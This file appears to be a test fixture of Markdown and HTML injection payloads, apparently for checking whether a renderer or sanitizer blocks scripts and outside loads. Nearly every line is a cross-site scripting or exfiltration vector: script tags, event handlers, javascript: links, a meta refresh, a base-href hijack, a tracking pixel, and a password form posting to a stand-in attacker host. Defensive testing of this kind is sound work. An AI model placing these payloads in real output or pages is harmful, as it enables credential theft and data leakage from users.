# ---
# note: scripts and what loads from elsewhere in the written answer and in Markdown of its own
# kind: scripts
# known_from: Markdown that lets HTML through; sanitizers that look before rendering
# no_alert: Markdown runs nothing in the kernel
# markdown:
#   - <script>fetch("https://canary-of-an-attacker.example")</script>
#   - '<svg><animate onbegin=fetch("https://canary-of-an-attacker.example") attributeName=x></svg>'
#   - '[x](javascript:fetch("https://canary-of-an-attacker.example"))'
#   - '[x]: javascript:canary-of-an-attacker%0aalert(1)'
#   - '<a href="java&#10;script:canary-of-an-attacker">x</a>'
#   - '![x](https://canary-of-an-attacker.example/pixel.png)'
#   - '<iframe srcdoc="<script>parent.canary-of-an-attacker</script>"></iframe>'
#   - '<math><mtext><style><img src=x onerror="canary-of-an-attacker"></style></mtext></math>'
#   - '<img src="x` `<script>canary-of-an-attacker</script>"` `>'
#   - '$\href{javascript:canary-of-an-attacker}{x}$ $\unicode{<img/src/onerror=alert(1)>}$'
#   - '<style>@import url(https://canary-of-an-attacker.example/x.css);</style>'
#   - '<form action="https://canary-of-an-attacker.example"><input name=password></form>'
#   - '<meta http-equiv=refresh content="0;url=https://canary-of-an-attacker.example">'
#   - '<base href="https://canary-of-an-attacker.example/"><link rel=stylesheet href=x>'
#   - '<details open ontoggle=fetch("https://canary-of-an-attacker.example")>x</details>'
#   - '<p style="background:url(https://canary-of-an-attacker.example/x)">x</p>'
# repeat:
#   essay:
#     - >-
#       <script>fetch("https://canary-of-an-attacker.example")</script>
#       <img src=x onerror=fetch("https://canary-of-an-attacker.example")>
#       <div style="background:url(//canary-of-an-attacker.example)">
#       <a href="data:text/html,<script>canary-of-an-attacker</script>">x</a>
#     - 1
# ---
# %% judged +end
pass
